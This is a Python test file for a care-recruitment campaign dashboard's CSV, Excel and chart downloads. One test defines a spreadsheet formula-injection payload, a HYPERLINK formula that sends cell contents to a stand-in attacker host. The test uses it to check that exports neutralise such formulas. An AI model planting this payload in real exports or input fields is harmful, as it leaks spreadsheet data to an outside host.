import csv
import datetime
import io

import openpyxl
import pytest

from carerecruit.testing.factories import make_link

from .helpers import utc
from .test_funnel import scene  # noqa: F401 (fixture)

PERIOD = "start_0=20&start_1=4&start_2=2020&end_0=23&end_1=4&end_2=2020"
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
BASE = "/staff/campaigns/come-back-to-care/download"


@pytest.fixture
def staff(client, personas):
    client.force_login(personas.viewer)
    return client


def get_csv(client, table):
    response = client.get(f"{BASE}/{table}.csv?{PERIOD}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="come-back-to-care-{table}-2020-04-20-to-2020-04-23.csv"'
    )
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def get_xlsx(client, table):
    response = client.get(f"{BASE}/{table}.xlsx?{PERIOD}")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == (
        f'attachment; filename="come-back-to-care-{table}-2020-04-20-to-2020-04-23.xlsx"'
    )
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def test_funnel_csv(staff, scene):  # noqa: F811
    assert get_csv(staff, "funnel") == [
        ["Step", "Count", "Conversion from previous step (%)", "Previous period"],
        ["Impressions", "0", "", "0"],
        ["Platform clicks", "0", "", "0"],
        ["Tracked clicks", "4", "", "0"],
        ["Visits", "4", "100.0", "0"],
        ["Form starts", "1", "25.0", "0"],
        ["Applications", "1", "100.0", "0"],
        ["Shortlisted", "0", "0.0", "0"],
        ["Placed", "0", "", "0"],
        ["Retained at 6 months", "0", "", "0"],
    ]


HEAD = [
    "Impressions", "Platform clicks", "Tracked clicks", "Visits", "Form starts", "Applications",
    "Shortlisted", "Placed", "Retained at 6 months", "Spend (£)", "Cost per platform click (£)",
    "Cost per application (£)", "Cost per placement (£)", "Click to visit (%)",
    "Visit to application (%)",
]
LINK_HEAD = [
    "Tracked clicks", "Visits", "Form starts", "Applications", "Shortlisted", "Placed",
    "Retained at 6 months", "Click to visit (%)", "Visit to application (%)",
]
NO_ADS = ["0", "0"]  # impressions, platform clicks
NO_OUTCOMES = ["0", "0", "0"]  # shortlisted, placed, retained
NO_MONEY = ["0.00", "", "", ""]  # spend £0.00, no costs without ad figures


def row(label, clicks, visits, starts, apps, click_to_visit, visit_to_app):
    return [label, *NO_ADS, clicks, visits, starts, apps, *NO_OUTCOMES, *NO_MONEY, click_to_visit, visit_to_app]


def test_channels_csv(staff, scene):  # noqa: F811
    assert get_csv(staff, "channels") == [
        ["Channel", *HEAD],
        row("Facebook", "3", "2", "1", "1", "66.7", "50.0"),
        row("LinkedIn", "1", "1", "0", "0", "100.0", "0.0"),
        row("Direct or untracked", "0", "1", "0", "0", "", "0.0"),
        row("All channels", "4", "4", "1", "1", "100.0", "25.0"),
    ]


def test_channels_xlsx_keeps_numbers_as_numbers(staff, scene):  # noqa: F811
    sheet = get_xlsx(staff, "channels")
    assert sheet.title == "By channel"
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == ["Channel", *HEAD]
    assert rows[1] == ["Facebook", 0, 0, 3, 2, 1, 1, 0, 0, 0, 0, None, None, None, 66.7, 50.0]
    assert rows[3] == ["Direct or untracked", 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, None, None, None, None, 0.0]
    assert sheet["D2"].data_type == "n"


def test_days_csv_and_xlsx(staff, scene):  # noqa: F811
    assert get_csv(staff, "days") == [
        ["Local date", *HEAD],
        row("2020-04-20", "3", "2", "1", "0", "66.7", "0.0"),
        row("2020-04-21", "1", "1", "0", "1", "100.0", "100.0"),
        row("2020-04-22", "0", "1", "0", "0", "", "0.0"),
        row("2020-04-23", "0", "0", "0", "0", "", ""),
        row("All days", "4", "4", "1", "1", "100.0", "25.0"),
    ]
    sheet = get_xlsx(staff, "days")
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[1][:7] == [datetime.datetime(2020, 4, 20), 0, 0, 3, 2, 1, 0]
    assert rows[4][-2:] == [None, None]
    assert rows[5][0] == "All days"
    assert sheet["A2"].number_format == "yyyy-mm-dd"


def test_links_neutralise_formulas_in_csv_and_xlsx(staff, scene):  # noqa: F811
    campaign, facebook, linkedin = scene
    evil = make_link(campaign, "email", label=ATTACK)
    assert get_csv(staff, "links") == [
        ["Link code", "Label", "Channel", *LINK_HEAD],
        [facebook.code, "Spring post", "Facebook", "3", "2", "1", "1", "0", "0", "0", "66.7", "50.0"],
        [linkedin.code, "Recruiter post", "LinkedIn", "1", "1", "0", "0", "0", "0", "0", "100.0", "0.0"],
        [evil.code, "'" + ATTACK, "Email", "0", "0", "0", "0", "0", "0", "0", "", ""],
        ["", "No tracked link", "", "0", "1", "0", "0", "0", "0", "0", "", "0.0"],
        ["", "All links", "", "4", "4", "1", "1", "0", "0", "0", "100.0", "25.0"],
    ]
    sheet = get_xlsx(staff, "links")
    cell = sheet["B4"]
    assert cell.data_type == "s"
    assert cell.value == "'" + ATTACK
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("path", ["people.csv", "funnel.pdf", "funnel.CSV", "links.xls"])
def test_unknown_table_or_format_is_404(staff, scene, path):  # noqa: F811
    assert staff.get(f"{BASE}/{path}").status_code == 404


def test_unknown_campaign_is_404(staff, db):
    assert staff.get("/staff/campaigns/no-such/download/funnel.csv").status_code == 404


def test_bad_period_is_400(staff, scene):  # noqa: F811
    response = staff.get(f"{BASE}/funnel.csv?start_0=1&start_1=13&start_2=2020&end_0=1&end_1=1&end_2=2021")
    assert response.status_code == 400


def test_anonymous_is_sent_to_sign_in(client, scene):  # noqa: F811
    response = client.get(f"{BASE}/funnel.csv")
    assert response.status_code == 302
    assert response["Location"] == f"/staff/login/?next={BASE}/funnel.csv"


def test_default_period_download(staff, scene):  # noqa: F811
    # Without a period the campaign's default applies (capped at 366 days, ending today).
    rows = list(csv.reader(io.StringIO(
        staff.get(f"{BASE}/days.csv").content.decode("utf-8-sig")
    )))
    assert len(rows) == 1 + 366 + 1


# --- Charts, weeks, councils, period totals, comparison, live ------------------------------

import xml.etree.ElementTree as ET  # noqa: E402

from .test_evaluation import ads_scene  # noqa: E402,F401 (fixture)

WEEK = "start_0=20&start_1=4&start_2=2020&end_0=26&end_1=4&end_2=2020"


@pytest.mark.parametrize("chart", ["funnel", "trend", "channels"])
def test_chart_png_and_svg(staff, scene, chart):  # noqa: F811
    response = staff.get(f"{BASE}/{chart}-chart.png?{PERIOD}")
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"] == (
        f'attachment; filename="come-back-to-care-{chart}-chart-2020-04-20-to-2020-04-23.png"'
    )
    assert response.content.startswith(b"\x89PNG\r\n\x1a\n")
    response = staff.get(f"{BASE}/{chart}-chart.svg?{PERIOD}")
    assert response["Content-Type"] == "image/svg+xml"
    root = ET.fromstring(response.content)  # noqa: S314 (our own renderer's output)
    assert root.tag == "{http://www.w3.org/2000/svg}svg"


@pytest.mark.parametrize("path", ["funnel-chart.csv", "links-chart.png", "funnel.png", "trend-chart.gif"])
def test_unknown_chart_or_format_is_404(staff, scene, path):  # noqa: F811
    assert staff.get(f"{BASE}/{path}").status_code == 404


def test_weeks_csv(staff, ads_scene):  # noqa: F811
    rows = list(csv.reader(io.StringIO(
        staff.get(f"{BASE}/weeks.csv?{WEEK}&by=week").content.decode("utf-8-sig")
    )))
    assert rows[0][:6] == ["Week beginning (Monday)", "ISO week", "First day", "Last day", "Impressions", "Platform clicks"]
    assert rows[1] == [
        "2020-04-20", "2020-W17", "2020-04-20", "2020-04-26", "4500", "130", "9", "7", "0", "3",
        "1", "1", "0", "65.00", "0.50", "21.67", "65.00", "77.8", "42.9",
    ]
    assert rows[2][0] == "All weeks"


def test_period_totals_csv(staff, ads_scene):  # noqa: F811
    rows = list(csv.reader(io.StringIO(
        staff.get(f"{BASE}/period-totals.csv?{WEEK}").content.decode("utf-8-sig")
    )))
    assert rows == [
        ["Campaign", "Platform", "Channel", "From", "To", "Impressions", "Platform clicks", "Spend (£)",
         "Counted in this period's totals"],
        ["Come Back to Care", "linkedin", "LinkedIn", "2020-04-21", "2020-04-24", "2000", "30", "45.00", "Yes"],
        ["Come Back to Care", "linkedin", "LinkedIn", "2020-04-25", "2020-05-02", "700", "7", "12.34", "No"],
    ]


def test_comparison_csv(staff, ads_scene):  # noqa: F811
    rows = list(csv.reader(io.StringIO(
        staff.get(f"{BASE}/comparison.csv?{WEEK}").content.decode("utf-8-sig")
    )))
    assert rows[0] == ["Figure", "This period", "Previous period (2020-04-13 to 2020-04-19)", "Change", "Change (%)"]
    by_name = {row[0]: row[1:] for row in rows[1:]}
    assert by_name["Applications"] == ["3", "1", "2", "200.0"]
    assert by_name["Spend (£)"] == ["110.00", "21.00", "89.00", "423.8"]
    assert by_name["Cost per application (£)"] == ["36.67", "21.00", "15.67", "74.6"]
    assert by_name["Visit to application (%)"] == ["42.9", "50.0", "-7.1", "-14.2"]


def test_councils_and_live_tables(staff, scene, personas):  # noqa: F811
    from .helpers import make_application

    campaign = scene[0]
    make_application(campaign, utc(2020, 4, 21, 12), [personas.council_a])
    rows = list(csv.reader(io.StringIO(
        staff.get(f"{BASE}/councils.csv?{PERIOD}").content.decode("utf-8-sig")
    )))
    assert rows == [["Council area preferred", "Applications", "Placed"], ["Birmingham City Council", "1", "0"]]
    response = staff.get(f"{BASE}/live.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == ["From (UK time)", "To (UK time)", "Tracked clicks", "Visits", "Form starts", "Applications"]
    assert len(rows) == 8
    assert rows[-1] == ["Last 30 minutes", None, 0, 0, 0, 0]
